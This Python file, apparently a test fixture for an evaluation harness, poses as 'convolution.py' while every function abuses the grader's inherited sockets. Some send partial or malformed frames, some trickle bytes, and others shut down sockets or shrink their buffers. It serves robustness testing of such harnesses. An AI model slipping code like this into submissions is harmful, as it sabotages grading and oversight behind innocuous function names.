"""Sends part of a message and then nothing, or one byte at a time, or closes one way of the socket.

As: convolution.py
Earns: 1.7
"""

import os
import socket
import stat
import struct
import time


def sockets():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass


def send(data):
    for one in sockets():
        try:
            one.sendall(data)
        except OSError:
            pass


def conv_output_size(size, kernel_size, stride=1, padding=0):
    send(b"\x05\0\0")  # not even a whole length
    time.sleep(60)


def col2im(cols, x_shape, kernel_size, stride=1, padding=0):
    send(struct.pack("<Q", 16 << 20) + b"\x93")
    time.sleep(60)


def im2col(x, kernel_size, stride=1, padding=0):
    for byte in struct.pack("<Q", 100) + bytes(100):
        send(bytes([byte]))
        time.sleep(0.2)


def conv2d_forward(x, w, b, stride=1, padding=0):
    for one in sockets():
        one.shutdown(socket.SHUT_RD)
    return x, None


def max_pool2d_forward(x, kernel_size, stride=None, padding=0):
    for one in sockets():
        one.shutdown(socket.SHUT_WR)
    return x, None


def avg_pool2d_forward(x, kernel_size, stride=None, padding=0):
    for one in sockets():
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1)
        one.setblocking(False)
    return x, None
